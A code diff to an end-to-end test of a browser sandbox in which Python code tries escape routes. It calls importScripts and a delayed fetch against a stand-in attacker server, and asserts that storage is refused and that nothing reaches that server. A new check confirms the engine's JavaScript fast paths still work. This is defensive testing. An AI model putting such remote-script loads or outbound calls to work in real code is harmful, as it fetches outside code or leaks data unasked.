@@ -84,6 +84,12 @@ def tool_escape() -> dict:
     attempt("importScripts", lambda: js.importScripts(URL + "/classic.js"))
     # After the call: the page has no call to count it against, so it refuses and records it.
     attempt("delayed fetch", lambda: js.setTimeout(create_proxy(lambda: js.fetch(URL + "/later")), 300))
+
+    # Not a way out: the engine's fast paths, JavaScript run_js evaluates, work in the frame (its policy allows eval).
+    def fast_paths():
+        from toolplay.core import dict_watch, memfs_stamp
+        return dict_watch.watcher() is not None and memfs_stamp.make_javascript("(FS) => (paths) => FS !== undefined", []) is True
+    attempt("engine fast paths", fast_paths)
     return {"output": "\\n".join(out)}
 `;
 
@@ -137,6 +143,10 @@ const tests: E2ETest[] = [
             new RegExp(`${storage.replace('.', '\\.')}: refused`).test(result),
             `${storage} is refused in Python's realm: ${result.slice(0, 2000)}`,
           );
+        assert(
+          /engine fast paths: no error \(True\)/.test(result),
+          `the engine's dict watcher and file stamps work in the frame: ${result.slice(0, 2000)}`,
+        );
         // Whatever the browser made of each attempt, none of them reached the attacker.
         assert(server.seen.length === 0, `nothing reached the attacker's server: ${server.seen.join(', ')}`);
       } finally {
